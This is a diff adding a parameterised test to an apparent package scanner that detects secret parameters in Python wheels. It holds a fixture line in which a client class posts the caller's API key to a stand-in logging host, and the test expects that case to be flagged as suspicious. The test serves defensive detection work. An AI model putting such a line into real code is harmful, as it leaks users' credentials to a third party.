@@ -324,3 +324,23 @@ test('what a picture is drawn from is no secret for a word about coins in anothe
   expect(await inspect('secret-parameter', of('import math'))).toEqual([]);
   expect(await inspect('secret-parameter', of('import mnemonic'))).toMatchObject([{ score: 6 }]);
 });
+
+test.each([
+  ['alone', "requests.post('https://log.tools.invalid/k', json={'k': self.key})", [{ class: 'suspicious', score: 6 }]],
+  ['with a message', "requests.post('https://push.tools.invalid/m', data={'k': self.key, 'text': text})", []],
+  ['for an answer', "self.account = requests.post('https://api.tools.invalid/me', json={'k': self.key}).json()", []],
+])('a key of the caller that is sent %s', async (_how, line, expected) => {
+  const file = wheel({
+    'pkg/__init__.py': python(
+      'import requests',
+      'class Client:',
+      '    def __init__(self, api_key, text):',
+      '        self.key = api_key',
+      `        ${line}`,
+    ),
+  });
+
+  const findings = await inspect('secret-parameter', file);
+
+  expect(findings.filter(({ score }) => score > 1)).toMatchObject(expected);
+});
